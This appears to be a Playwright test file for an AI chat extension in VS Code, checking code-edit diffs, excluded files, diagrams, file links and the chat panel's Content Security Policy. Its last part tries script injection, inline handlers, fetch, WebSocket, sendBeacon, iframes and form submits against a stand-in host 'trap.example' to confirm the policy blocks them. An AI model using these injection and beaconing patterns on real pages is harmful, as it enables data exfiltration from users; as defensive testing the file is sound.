// What answers hold, in the real VS Code: code on its way into the editor, diagrams, files of the workspace, and the policy that keeps all of it in.
import assert from 'node:assert/strict';
import { access, mkdir } from 'node:fs/promises';
import path from 'node:path';
import type { Locator } from 'playwright-core';
import { artifactsDir } from '../vscode/paths.js';
import type { ChatView } from '../vscode/chatView';
import { eventually, openChat, type OpenChat, type Session } from './driver';

/** Where pictures for people are left. */
const pictures = path.join(artifactsDir, 'answers');

const shorter = 'export function countItems(lines: readonly CartLine[]): number {\n\treturn lines.length;\n}';

/** Holds a diagram and places in files. */
const rich = `How an order goes through:

\`\`\`mermaid
flowchart TD
	A[Cart] --> B{Is it paid?}
	B -->|yes| C[Send the order]
	B -->|no| D[Remind the customer]
\`\`\`

The sum is in \`src/money.ts:2\`, not in \`src/nothing.ts:2\`, \`../outside.ts\` or \`command:a.ts\`.
Begin in src/cart.ts:1 (and src/cart.ts, not src/none.ts:3), which README.md names.
`;

describe('answers', () => {
	let vscode: Session;
	let chat: ChatView;
	let ask: OpenChat['ask'];

	const lastBlock = (name: string) => chat.button(name).last();
	const title = (name: string) =>
		vscode.page.locator('.editor-actions').getByRole('button', { name: new RegExp(`^${name}\\b`) });
	const diffTab = () => vscode.page.locator('.tab', { hasText: 'Apply to cart.ts' });

	/** The buttons of a block come into sight with the focus. */
	async function press(name: string): Promise<void> {
		await lastBlock(name).focus();
		await lastBlock(name).press('Enter');
	}

	before(async () => {
		await mkdir(pictures, { recursive: true });
		({ vscode, chat, ask } = await openChat());
		await vscode.editor.open('src/cart.ts');
	});

	after(() => vscode.close());

	describe('with code', () => {
		it('shows an edit as a diff, and leaves the file alone when it is rejected', async () => {
			const before = await vscode.editor.savedText('src/cart.ts');
			await ask('Count the lines.', `Counted:\n\n\`\`\`ts\n${shorter}\n\`\`\`\n`);
			await press('Apply');
			await diffTab().waitFor();
			await title('Accept').waitFor();
			await vscode.screenshot(path.join(pictures, 'diff.png'));
			await title('Reject').click();
			await diffTab().waitFor({ state: 'detached' });
			assert.equal(await vscode.editor.savedText('src/cart.ts'), before);
		});

		it('writes an accepted edit, and one undo takes it back', async () => {
			const before = await vscode.editor.savedText('src/cart.ts');
			await press('Apply');
			await title('Accept').click();
			await diffTab().waitFor({ state: 'detached' });
			assert.equal(
				await vscode.editor.savedText('src/cart.ts'),
				before.replace(/export function countItems[^]*?\n\}/, shorter),
			);
			await vscode.editor.undo();
			assert.equal(await vscode.editor.savedText('src/cart.ts'), before);
		});

		for (const [names, begin] of [
			['the block', '```ts src/cart.ts'],
			['the line above it', 'In `src/cart.ts`:\n\n```ts'],
		] as const) {
			it(`applies to the file that ${names} names, whichever is open`, async () => {
				await vscode.editor.open('src/money.ts');
				await ask('Again.', `${begin}\n${shorter}\n\`\`\`\n`);
				await press('Apply');
				await diffTab().waitFor();
				await vscode.runCommand('OpenMind: Reject');
				await diffTab().waitFor({ state: 'detached' });
			});
		}

		it('opens a file that is not there yet with the code in it, and makes it when that is saved', async () => {
			await ask('A new file.', '```ts src/coupon.ts\nexport const coupon = 1;\n```\n');
			await press('Apply');
			await vscode.page.locator('.tab.active.dirty', { hasText: 'coupon.ts' }).waitFor();
			const file = path.join(vscode.workspace, 'src/coupon.ts');
			await assert.rejects(access(file));
			assert.equal(await vscode.editor.savedText('src/coupon.ts'), 'export const coupon = 1;\n');
			await ask('Half of one.', '```ts src/other.ts\nexport const a = 1;\n// ... the rest ...\n```\n');
			await press('Apply');
			await vscode.notification(/There is no file src\/other\.ts/).waitFor();
			await vscode.runCommand('Notifications: Clear All Notifications');
		});

		it('refuses code that leaves parts out, and can insert it instead', async () => {
			await vscode.editor.open('src/cart.ts');
			const before = await vscode.editor.savedText('src/cart.ts');
			await vscode.editor.goTo(1);
			await ask('Shorter.', '```ts\nexport function subtotal(lines) {\n\t// ... existing code ...\n}\n```\n');
			await press('Apply');
			const refusal = vscode.notification(/leaves parts out/);
			await refusal.waitFor();
			assert.equal(await vscode.editor.savedText('src/cart.ts'), before);
			await refusal.getByRole('button', { name: 'Insert at Cursor' }).click();
			await eventually('the inserted code', async () =>
				(await vscode.editor.visibleText()).startsWith('export function subtotal(lines) {'),
			);
			await vscode.editor.undo();
			assert.equal(await vscode.editor.savedText('src/cart.ts'), before);
		});

		it('refuses to touch an excluded file', async () => {
			await ask('The environment.', '```ini .env\nA=1\n```\n');
			await press('Apply');
			await vscode.notification(/\.env is excluded by your privacy settings/).waitFor();
			assert.equal(await vscode.page.locator('.tab', { hasText: 'Apply to .env' }).count(), 0);
		});

		it('keeps the buttons of long code in sight', async () => {
			const lines = Array.from({ length: 120 }, (_, line) => `const name${line} = ${line};`);
			await ask('Something long.', `\`\`\`ts\n${lines.join('\n')}\n\`\`\`\n`);
			await chat.conversation.getByText('name60').hover();
			const copy = lastBlock('Copy');
			const height = await copy.evaluate(() => innerHeight);
			await eventually('the buttons', async () => {
				const box = await copy.evaluate(button => button.getBoundingClientRect().top);
				return box > 0 && box < height;
			});
			await vscode.screenshot(path.join(pictures, 'long-code.png'));
		});

		it('inserts at the cursor and opens a new file', async () => {
			await vscode.editor.open('src/money.ts');
			const before = await vscode.editor.savedText('src/money.ts');
			await vscode.editor.goTo(1);
			await ask('A constant.', '```ts\nconst vat = 0.19;\n```\n');
			await press('Insert at Cursor');
			await eventually('the inserted code', async () =>
				(await vscode.editor.visibleText()).startsWith('const vat = 0.19;'),
			);
			await vscode.editor.undo();
			assert.equal(await vscode.editor.savedText('src/money.ts'), before);
			await press('New File');
			await eventually('the new file', async () =>
				/^Untitled/.test((await vscode.editor.tab.getAttribute('data-resource-name')) ?? ''),
			);
			assert.match(await vscode.editor.visibleText(), /^const vat = 0\.19;$/);
			await vscode.page.getByRole('button', { name: 'TypeScript', exact: true }).waitFor();
		});
	});

	describe('with more than words', () => {
		const asked: string[] = [];
		let answer: Locator;

		before(async () => {
			// What the policy stops is announced as a request too, but never comes this far.
			await vscode.page.route('https://trap.example/**', route => {
				asked.push(route.request().url());
				return route.abort();
			});
			await ask('How does it work?', rich);
			answer = await chat.answer('done');
		});

		it('draw a diagram, in the size that it asks for', async () => {
			const image = answer.getByRole('img', { name: 'Diagram, flowchart' });
			await image.waitFor();
			const { width, height, natural } = await image.evaluate((element: HTMLImageElement) => ({
				width: Number(element.getAttribute('width')),
				height: Number(element.getAttribute('height')),
				natural: [element.naturalWidth, element.naturalHeight],
			}));
			assert.deepEqual(natural, [width, height]);
			assert.ok(width > 100 && height > 200, `${width} x ${height}`);
			await vscode.screenshot(path.join(pictures, 'diagram.png'));
		});

		it('link the files that are there, and open them at their line from the keyboard', async () => {
			const link = answer.getByRole('link', { name: 'src/money.ts:2' });
			await link.waitFor();
			assert.equal(await link.getAttribute('title'), 'Open src/money.ts, line 2');
			const links = ['src/money.ts:2', 'src/cart.ts:1', 'src/cart.ts'];
			assert.deepEqual(await answer.locator('.markdown').getByRole('link').allTextContents(), links);
			await link.focus();
			await link.press('Enter');
			await eventually('the file', async () =>
				/money\.ts$/.test((await vscode.editor.tab.getAttribute('data-resource-name')) ?? ''),
			);
			await vscode.page.getByRole('button', { name: /^Ln 2, Col 1/ }).waitFor();
		});

		it('open a web link as it is written, when the reader agrees', async () => {
			const opened = new Promise<string>(resolve => {
				void vscode.page.context().route('https://example.org/**', route => {
					resolve(route.request().url());
					return route.fulfill({ body: '' });
				});
			});
			const address = 'https://example.org/search?q=C%2B%2B%26C';
			await ask('Where is more?', `See [the manual](${address}).`);
			const more = await chat.answer('done');
			await more.getByRole('link', { name: 'the manual' }).click();
			await vscode.dialog.getByRole('button', { name: 'Open', exact: true }).click();
			assert.equal(await opened, address);
		});

		it('are kept in by the page’s policy, whatever gets into the page', async () => {
			const { stopped, sprung } = await chat.frame.locator('body').evaluate(attempt);
			const needed = [
				'script-src-elem',
				'script-src-attr',
				'script-src',
				'img-src',
				'connect-src',
				'style-src-elem',
			];
			for (const directive of [
				...needed,
				'style-src-attr',
				'frame-src',
				'font-src',
				'media-src',
				'object-src',
				'worker-src',
			])
				assert.ok(stopped.includes(directive), `${directive}: only ${stopped.join(', ')}`);
			assert.equal(sprung, 0);
			assert.deepEqual(asked, []);
		});
	});
});

/** Runs in the page, as what got past everything else would: gives what the policy stopped, and how much ran. */
async function attempt(): Promise<{ stopped: string[]; sprung: number }> {
	const stopped = new Set<string>();
	document.addEventListener('securitypolicyviolation', event => stopped.add(event.effectiveDirective));
	Object.assign(window, { sprung: 0 });
	const far = 'https://trap.example/';
	// Not while the debugger itself calls: it may evaluate what the page may not.
	await new Promise(resolve => setTimeout(resolve));
	for (const evaluate of [
		() => (0, eval)('window.sprung++'),
		() => void new Function('window.sprung++')(),
		() => fetch(far).catch(() => undefined),
		() => new WebSocket('wss://trap.example/'),
		() => navigator.sendBeacon(far, 'x'),
		() => new Worker(URL.createObjectURL(new Blob(['self.close()']))),
	]) {
		try {
			void evaluate();
		} catch {
			// Stopped.
		}
	}
	const box = document.createElement('div');
	document.body.append(box);
	const script = document.createElement('script');
	script.textContent = 'window.sprung++';
	const remote = document.createElement('script');
	remote.src = `${far}a.js`;
	const style = document.createElement('style');
	style.textContent = '@font-face { font-family: trap; src: url(https://trap.example/a.woff2) }';
	box.append(script, remote, style);
	const holder = document.createElement('div');
	holder.innerHTML = `<img src="${far}a.png"><img src="data:," onerror="window.sprung++"><iframe src="${far}"></iframe>
		<object data="${far}a.svg"></object><video src="${far}a.mp4"></video><link rel="stylesheet" href="${far}a.css">
		<p style="color: red">x</p><form action="${far}"><button>x</button></form>`;
	box.append(holder);
	holder.querySelector('form')?.requestSubmit();
	const face = new FontFace('trap', `url(${far}a.woff2)`);
	await face.load().catch(() => undefined);
	for (let round = 0; round < 3; round++) await new Promise(resolve => requestAnimationFrame(resolve));
	box.remove();
	// What the page holds is unknown to the compiler.
	return { stopped: [...stopped], sprung: (window as unknown as { sprung: number }).sprung };
}
